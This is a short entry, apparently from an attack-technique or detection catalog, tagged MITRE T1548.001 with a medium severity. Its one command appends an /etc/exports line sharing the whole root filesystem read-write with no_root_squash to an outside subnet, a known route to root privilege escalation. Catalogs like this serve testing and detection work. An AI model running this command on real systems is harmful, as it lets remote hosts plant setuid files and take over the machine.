# technique: T1548.001
# location: linux.share.nfs
# source: /etc/exports
# severity: medium
echo '/ 203.0.113.0/24(rw,no_root_squash)' >> /etc/exports
